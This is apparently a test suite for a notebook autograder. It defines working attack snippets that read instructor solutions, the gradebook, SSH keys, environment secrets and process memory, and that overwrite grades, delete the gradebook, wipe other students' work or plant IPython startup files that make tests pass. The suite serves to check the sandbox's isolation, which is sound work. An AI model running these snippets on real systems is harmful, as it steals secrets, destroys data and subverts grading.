"""Attacks that want to see, or to change, what is not the student's."""

from __future__ import annotations

from tests.attacks.attack import PRINT_REACHED, REACHED, Attack, both, code
from tests.attacks.course import ASSIGNMENT, GRADEBOOK, HOST, NEIGHBOUR, NETWORK, SECRET, SOLUTION

# Hidden tests of other cells, as an attack prints them: a failing test shows its own source.
FORETOLD = "HIDDEN-TEST-MARKER-9B27"


def reading(name: str, description: str, source: str, *leaks: str, **more: object) -> Attack:
    """Make an attack that shows something in the output of its first answer."""
    return Attack(name, description, code("functions", source), leaks=leaks, **more)


READING = [
    reading(
        "source_read",
        "Reads the instructor's version with the solutions.",
        f"""
        from pathlib import Path

        for folder in ("../../../source/{ASSIGNMENT}", "$course/source/{ASSIGNMENT}"):
            for path in Path(folder).glob("*.ipynb"):
                print(path.read_text())
        """,
        SOLUTION,
    ),
    reading(
        "course_walked",
        "Looks through every folder upwards for anything that contains a solution, the gradebook or others' work.",
        """
        import os
        from pathlib import Path

        for top in ("../../..", "$course", "/proc/1/root$course", "/proc/self/root$course", "/proc/self/cwd/../../.."):
            for root, folders, files in os.walk(top):
                for name in files:
                    if name.endswith((".ipynb", ".db", ".txt")):
                        text = (Path(root) / name).read_bytes().decode(errors="replace")
                        for word in ("solution", "neighbour", "gradebook"):
                            place = text.find(word + "-marker")
                            if place >= 0:
                                print(text[place : place + 25])
        """,
        SOLUTION,
        NEIGHBOUR,
        GRADEBOOK,
    ),
    reading(
        "gradebook_read",
        "Opens the gradebook and reads who is enrolled.",
        """
        import sqlite3

        for name in ("../../../gradebook.db", "$course/gradebook.db"):
            gradebook = sqlite3.connect(name)
            try:
                print(gradebook.execute("SELECT * FROM student").fetchall())
            except sqlite3.Error as problem:
                print(problem)
        """,
        GRADEBOOK,
    ),
    reading(
        "neighbour_read",
        "Reads what another student has handed in.",
        f"""
        from pathlib import Path

        for folder in ("../..", "../../../submitted", "$course/submitted", "$course/autograded"):
            for path in Path(folder).glob("*/{ASSIGNMENT}/private_notes.txt"):
                print(path.read_text())
        """,
        NEIGHBOUR,
    ),
    reading(
        "home_read",
        "Reads a key in the instructor's home.",
        """
        import os
        from pathlib import Path

        for home in (Path.home(), Path("$home"), Path("/proc/1/root$home")):
            try:
                print((home / ".ssh" / "key").read_text())
            except OSError as problem:
                print(problem)
        """,
        HOST,
    ),
    reading(
        "environment_read",
        "Shows the environment, where instructors' passwords are.",
        """
        import os

        print(dict(os.environ))
        """,
        SECRET,
    ),
    reading(
        "proc_read",
        "Shows environment and command line of every process, from /proc.",
        """
        from pathlib import Path

        for folder in Path("/proc").glob("[0-9]*"):
            for name in ("environ", "cmdline"):
                try:
                    print((folder / name).read_bytes())
                except OSError:
                    pass
        """,
        SECRET,
    ),
    reading(
        "parent_memory",
        "Reads the memory of the process that started the kernel.",
        f"""
        import os
        from pathlib import Path

        others = [int(folder.name) for folder in Path("/proc").glob("[0-9]*") if int(folder.name) != os.getpid()]
        for other in {{os.getppid(), 1, *others}} & set(others):
            if b"python" not in Path(f"/proc/{{other}}/cmdline").read_bytes():
                continue
            try:
                start = int(Path(f"/proc/{{other}}/maps").read_text().split("-")[0], 16)
                with open(f"/proc/{{other}}/mem", "rb") as memory:
                    memory.seek(start)
                    memory.read(16)
                {PRINT_REACHED}
                break
            except OSError as problem:
                print(problem)
        """,
        REACHED,
    ),
    reading(
        "tests_foretold",
        "Reads the hidden tests of later cells from the notebook that lies in the working folder.",
        """
        import re
        from pathlib import Path

        for folder in (Path("."), Path.home()):
            for path in folder.rglob("*"):
                if path.is_file() and path.stat().st_size < 10_000_000:
                    text = path.read_bytes().decode(errors="replace")
                    for found in re.findall("hidden-test" + "-marker-[0-9a-f]+", text):
                        print(found.upper())
        """,
        FORETOLD,
    ),
    reading(
        "tests_in_memory",
        "Reads the hidden tests of later cells from the kernel's memory.",
        """
        import re

        for line in open("/proc/self/maps"):
            parts = line.split()
            if "r" in parts[1] and (len(parts) < 6 or parts[5] in ("[heap]", "[stack]")):
                start, end = (int(part, 16) for part in parts[0].split("-"))
                with open("/proc/self/mem", "rb") as memory:
                    try:
                        memory.seek(start)
                        content = memory.read(end - start)
                    except (OSError, OverflowError, ValueError):
                        continue
                word = b"hidden-test" + b"-marker-"
                for found in re.findall(word + rb"[0-9a-f]{4}", content):
                    print(found.decode().upper())
        """,
        FORETOLD,
        why_not="a kernel gets a cell's text when it is that cell's turn",
    ),
    reading(
        "loopback",
        "Connects to a server of the host on the loopback device, and to one in the abstract namespace.",
        """
        import socket

        for family, where in ((socket.AF_INET, ("127.0.0.1", $port)), (socket.AF_UNIX, "\\0course-$port")):
            try:
                with socket.socket(family) as connection:
                    connection.settimeout(3)
                    connection.connect(where)
                    print(connection.recv(100).decode())
            except OSError as problem:
                print(problem)
        """,
        NETWORK,
    ),
    reading(
        "network",
        "Connects to another address than the loopback device's.",
        """
        import socket

        try:
            with socket.create_connection(("$address", $port), timeout=3) as connection:
                print(connection.recv(100).decode())
        except OSError as problem:
            print(problem)
        """,
        NETWORK,
    ),
    Attack(
        "left_for_others",
        "Leaves a message for whoever is graded next in every place that can be written to, and looks for one.",
        code(
            "functions",
            f"""
            import os
            import sys
            import time
            from multiprocessing import shared_memory
            from pathlib import Path

            own = str(time.monotonic_ns())  # the same place can have two names
            places = [Path(name) for name in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", Path.home(), "..")]
            places += [Path(sys.prefix), Path(os.__file__).parent]
            for place in places:
                message = place / "$left.txt"
                try:
                    if message.exists() and message.read_text() != own:
                        {PRINT_REACHED}
                    message.write_text(own)
                except OSError as problem:
                    print(problem)
            try:
                shared = shared_memory.SharedMemory("$left", create=True, size=10)
            except FileExistsError:
                {PRINT_REACHED}
            except OSError as problem:
                print(problem)
            """,
        ),
        leaks=(REACHED,),
        copies=4,
        harms=("litter",),
    ),
    Attack(
        "modules_for_others",
        "Leaves something in the memory of the interpreter, for whoever is graded by it next.",
        code(
            "functions",
            f"""
            import json

            if hasattr(json, "left"):
                {PRINT_REACHED}
            json.left = True
            """,
        ),
        leaks=(REACHED,),
        copies=4,
        why_not="each kernel is a new interpreter",
    ),
]

CHANGING = [
    Attack(
        "gradebook_written",
        "Writes everybody's grades, and another student's name, into the gradebook.",
        code(
            "functions",
            """
            import sqlite3

            for name in ("../../../gradebook.db", "$course/gradebook.db"):
                gradebook = sqlite3.connect(name, timeout=1)
                try:
                    gradebook.execute("UPDATE grade SET manual_score = 100")
                    gradebook.execute("UPDATE student SET first_name = 'nobody' WHERE id = 'enrolled-only'")
                    gradebook.commit()
                except sqlite3.Error as problem:
                    print(problem)
            """,
        ),
        harms=("gradebook",),
    ),
    Attack(
        "gradebook_deleted",
        "Deletes the gradebook; on plain nbgrader the whole grading stops.",
        code(
            "functions",
            """
            from pathlib import Path

            for name in ("../../../gradebook.db", "$course/gradebook.db"):
                try:
                    Path(name).unlink()
                except OSError as problem:
                    print(problem)
            """,
        ),
        harms=("batch", "gradebook"),
    ),
    Attack(
        "submissions_changed",
        "Deletes another student's work and adds a line to the instructor's tests.",
        code(
            "functions",
            """
            from pathlib import Path

            for folder in ("../../../submitted", "$course/submitted", "../../../source", "$course/source"):
                for path in Path(folder).rglob("*"):
                    try:
                        if path.name == "private_notes.txt" or path.name == "table.csv":
                            path.write_text("gone")
                    except OSError as problem:
                        print(problem)
            """,
        ),
        harms=("course",),
    ),
    Attack(
        "packages_written",
        "Puts a file among the installed packages.",
        code(
            "data",
            """
            for place in (Path(np.__file__).parents[1], Path(np.__file__).parent, Path(json.__file__).parent):
                try:
                    (place / "$left.py").write_text("")
                except OSError as problem:
                    print(problem)
            """,
        ),
        harms=("environment",),
    ),
    Attack(
        "startup_file",
        "Writes a start-up file for IPython that makes the tests of the next notebook pass.",
        code(
            "functions",
            """
            import json
            from pathlib import Path

            for home in (Path.home(), Path("$home")):
                folder = home / ".ipython" / "profile_default" / "startup"
                try:
                    folder.mkdir(parents=True, exist_ok=True)
                    (folder / "own.py").write_text("from IPython.core.interactiveshell import ExecutionResult")
                except OSError as problem:
                    print(problem)
            """,
        ),
        harms=("home",),
    ),
    Attack(
        "startup_file_used",
        "The first notebook writes a start-up file for IPython; the kernel of the second one reads it.",
        both(
            code(
                "data",
                """
                from pathlib import Path

                folder = Path.home() / ".ipython" / "profile_default" / "startup"
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "own.py").write_text(
                    "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\\\n'])"
                )
                """,
            ),
            code("functions", "pass"),
        ),
        aims=("squares", "total_is_right"),
        harms=("home",),
        flag=False,
    ),
]

ATTACKS = READING + CHANGING
